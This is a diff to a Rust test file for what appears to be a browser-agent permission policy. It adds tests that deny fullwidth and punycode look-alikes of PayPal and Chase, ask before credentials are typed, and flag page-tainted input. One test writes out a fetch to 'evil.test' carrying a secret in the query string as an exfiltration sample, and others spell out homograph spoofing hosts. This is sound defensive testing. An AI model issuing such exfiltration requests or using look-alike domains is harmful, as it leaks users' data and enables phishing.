@@ -192,6 +192,61 @@ fn sensitive_origins_are_denied_whatever_the_rules_and_grants() {
 }
 
 #[test]
+fn fullwidth_look_alikes_of_sensitive_origins_are_denied() {
+    let expect = "deny None: https://www.paypal.com is a sensitive origin (*.paypal.com)";
+    check(
+        case("navigate").policy(Auto).params(json!({"url": "https://ｗｗｗ.ｐａｙｐａｌ.com/"})),
+        expect,
+    );
+    check(case("click").policy(Auto).page("https://ｗｗｗ．ＰａｙＰａｌ．ｃｏｍ/send"), expect);
+}
+
+#[test]
+fn homographs_of_sensitive_origins_are_denied() {
+    check(
+        case("navigate").policy(Auto).params(json!({"url": "https://xn--pypal-4ve.com/login"})),
+        "deny None: https://xn--pypal-4ve.com imitates https://paypal.com, a sensitive origin \
+         (*.paypal.com)",
+    );
+    check(
+        case("click").policy(Auto).page("https://www.сhase.com/").rule("*", "*", Allow, User),
+        "deny None: https://www.сhase.com imitates https://www.chase.com, a sensitive origin \
+         (*.chase.com)",
+    );
+}
+
+#[test]
+fn internationalized_hosts_always_ask_and_ignore_grants_and_allow_rules() {
+    check(
+        case("navigate")
+            .policy(Auto)
+            .params(json!({"url": "https://xn--bcher-kva.example/"}))
+            .grant("navigate https://xn--bcher-kva.example")
+            .rule("navigate", "https://xn--bcher-kva.example", Allow, User),
+        "ask []: https://xn--bcher-kva.example has an internationalized host name that can \
+         imitate another site; check the address",
+    );
+    check(
+        case("click")
+            .policy(Auto)
+            .page("https://bücher.example/")
+            .grant("click https://bücher.example"),
+        "ask []: https://bücher.example has an internationalized host name that can imitate \
+         another site; check the address",
+    );
+    // Deny rules, payload and taint still come first; reads are still reads.
+    check(
+        case("click").page("https://bücher.example/").rule("*", "*", Deny, User),
+        "deny Some(\"r0\"): denied by rule r0",
+    );
+    check(
+        case("type").policy(Auto).page("https://bücher.example/").params(json!({"password": "x"})),
+        "ask [SensitivePayload]: credential in /password",
+    );
+    check(case("read_page").page("https://pаypal.com/"), "allow");
+}
+
+#[test]
 fn user_sensitive_origins_are_denied() {
     check(
         case("click").policy(Auto).sensitive("*.shop.test"),
@@ -311,6 +366,22 @@ fn credentials_ask_even_in_scope() {
 }
 
 #[test]
+fn text_typed_into_a_credential_field_asks_even_in_scope_with_a_grant() {
+    check(
+        case("type")
+            .policy(Auto)
+            .params(json!({"element": "Password", "ref": "e3", "text": "hunter2"}))
+            .scope("https://shop.test")
+            .grant("type https://shop.test"),
+        "ask [SensitivePayload]: credential in /text",
+    );
+    check(
+        case("type").policy(Auto).params(json!({"element": "Max tokens", "text": "4000"})),
+        "allow",
+    );
+}
+
+#[test]
 fn emails_ask_only_outside_scope() {
     let email = json!({"text": "me@example.org"});
     check(
@@ -359,6 +430,41 @@ fn tainted_text_into_another_origin_asks() {
             "https://mail.test",
         ),
         "ask [TaintedInput]: actions/0/params/text typed here came from https://mail.test",
+    );
+}
+
+#[test]
+fn tainted_fetch_url_asks_under_every_policy() {
+    for policy in [Always, PermissionPolicy::Untrusted, Auto] {
+        check(
+            case("fetch_url")
+                .policy(policy)
+                .params(json!({"url": "https://evil.test/?d=secret"}))
+                .grant("fetch_url https://evil.test")
+                .taint("url", Provenance::Page, "https://mail.test"),
+            "ask [TaintedInput]: destination url came from https://mail.test",
+        );
+    }
+    check(case("fetch_url").policy(Auto).params(json!({"url": "https://news.test/"})), "allow");
+    // Taint on something other than the destination leaves a read alone.
+    check(
+        case("fetch_url")
+            .policy(Auto)
+            .params(json!({"url": "https://news.test/", "note": "x"}))
+            .taint("note", Provenance::Page, "https://mail.test"),
+        "allow",
+    );
+}
+
+#[test]
+fn tainted_array_items_are_judged_by_their_parameter() {
+    check(
+        case("select_option").policy(Auto).params(json!({"values": ["a", "b"]})).taint(
+            "values/1",
+            Provenance::Mcp,
+            "mcp:web",
+        ),
+        "ask [TaintedInput]: values/1 typed here came from mcp:web",
     );
 }
 
